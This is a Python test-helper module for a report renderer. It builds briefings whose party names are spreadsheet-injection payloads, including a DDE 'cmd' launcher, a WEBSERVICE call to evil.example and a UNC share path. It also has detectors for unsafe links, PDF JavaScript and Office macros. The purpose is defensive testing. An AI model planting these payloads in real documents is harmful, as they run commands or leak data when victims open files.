"""Hostile content for the tests/hostile/test_hostile_*.py files: the reference briefing with names that try to
become formulas, links or reordered text in whatever program opens an output."""
from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import yaml

from conftest import REFERENCE
from helpers import copy_reference

# Names a spreadsheet would run or follow if they were written as formulas or links.
FORMULA_NAMES = [
    "=cmd|' /C calc'!A0",
    "=WEBSERVICE(\"http://evil.example/x\")",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "{=1+2}",
    "http://evil.example/track",
    "mailto:someone@evil.example",
    "\\\\evil.example\\share",
    "\tTAB=1+1",
]


def hostile_content(folder: Path, names=FORMULA_NAMES) -> Path:
    """The reference briefing, its parties renamed to ``names`` (name and short name: the short name is
    the chart category), written to ``folder``. The reference has 6 parties."""
    data = yaml.safe_load(REFERENCE.read_text(encoding="utf-8"))
    for party, name in zip(data["parties"], names):
        party["name"] = name
        party["short"] = name
    return copy_reference(folder, f"hostile-{len(list(folder.iterdir()))}.yaml", data=data)


def embedded_workbooks(package: bytes) -> dict[str, bytes]:
    """Every .xlsx inside an Office package (pptx/docx), by member name; also nested ones."""
    out = {}
    with zipfile.ZipFile(io.BytesIO(package)) as z:
        for name in z.namelist():
            if name.lower().endswith((".xlsx", ".xlsm", ".xlsb", ".xls")):
                out[name] = z.read(name)
    return out


def formula_cells(xlsx: bytes) -> list[str]:
    """Cells that hold a formula or a hyperlink (openpyxl reopens the workbook as Excel would)."""
    import openpyxl

    found = []
    wb = openpyxl.load_workbook(io.BytesIO(xlsx))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.data_type != "s"
                                             and cell.value.startswith("=")):
                    found.append(f"{ws.title}!{cell.coordinate} formula {cell.value!r}")
                if cell.hyperlink is not None:
                    found.append(f"{ws.title}!{cell.coordinate} hyperlink {cell.hyperlink.target!r}")
    # openpyxl drops array formulas' XML details: look at the raw sheets too.
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name).decode("utf-8")
                found += [f"{name}: <f> element" for _ in re.findall(r"<f[ >]", xml)]
                found += [f"{name}: hyperlink" for _ in re.findall(r"<hyperlink ", xml)]
    return found


SAFE_SCHEMES = ("http:", "https:", "mailto:")


def unsafe_links(name: str, data: bytes) -> list[str]:
    """Links in an output that point anywhere but http/https/mailto (javascript:, file:, UNC ...), and
    active content (PDF JavaScript or launch actions, Office macros)."""
    bad = []
    if data.startswith(b"%PDF"):
        # the objects' dictionaries only: compressed stream data (a figure's image) can hold "/JS" by chance
        data = re.sub(rb"stream\r?\n.*?endstream", b"stream endstream", data, flags=re.S)
        for m in re.finditer(rb"/URI\s*\(([^)]*)\)", data):
            if not m.group(1).decode("latin-1").lower().startswith(SAFE_SCHEMES):
                bad.append(f"{name}: PDF link {m.group(1)!r}")
        for key in (rb"/JavaScript", rb"/JS\b", rb"/Launch", rb"/SubmitForm", rb"/GoToR", rb"/EmbeddedFile"):
            if re.search(key, data):
                bad.append(f"{name}: PDF {key.decode()}")
    elif data.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            for member in z.namelist():
                low = member.lower()
                if low.endswith("vbaproject.bin") or "activex" in low or "oleobject" in low:
                    bad.append(f"{name}: active content {member}")
                if low.endswith(".rels"):
                    for rel in re.findall(rb"<Relationship [^>]*>", z.read(member)):
                        if b'TargetMode="External"' in rel:
                            target = re.search(rb'Target="([^"]*)"', rel).group(1).decode()
                            if not target.lower().startswith(SAFE_SCHEMES):
                                bad.append(f"{name}: {member} external target {target!r}")
    else:  # text (HTML)
        text = data.decode("utf-8", "replace")
        for m in re.finditer(r"""(?:href|src|action|formaction)\s*=\s*["']?\s*([a-z][a-z0-9+.-]*):""", text, re.I):
            if m.group(1).lower() + ":" not in SAFE_SCHEMES + ("data:",):
                bad.append(f"{name}: link scheme {m.group(1)!r}")
    return bad


def output_text(data: bytes) -> str:
    """Everything a reader could see in an output, as text: a PDF's extracted text (pypdf), every XML
    part of an Office package, or the file itself."""
    if data.startswith(b"%PDF"):
        from pypdf import PdfReader

        return "\n".join(page.extract_text() or "" for page in PdfReader(io.BytesIO(data)).pages)
    if data.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            return "\n".join(z.read(n).decode("utf-8", "replace") for n in z.namelist()
                             if n.endswith((".xml", ".rels")))
    return data.decode("utf-8", "replace")


def render_every_edition(path: Path, names=None) -> dict[str, bytes]:
    """Every registered renderer's output for the content file at ``path`` (the full briefing), as a
    build makes it: one read of the file, each renderer given its theme view."""
    from reportkit.build import render
    from reportkit.pipeline import prepare, read_source
    from reportkit.registry import REGISTRY

    prepared = prepare(read_source(path))
    return {name: render(prepared.for_format(name), name).data for name in (names or REGISTRY)}


def largest_briefing(folder: Path) -> Path:
    """The largest briefing the limits allow (``benchmarks/largest.py``, which times it): every count
    at its limit, sections filling the file to the size limit with long paragraphs of long words."""
    import sys

    sys.path.insert(0, str(REFERENCE.parent.parent))
    from benchmarks.largest import largest

    path = folder / "largest.yaml"
    path.write_text(largest(), encoding="utf-8")
    return path
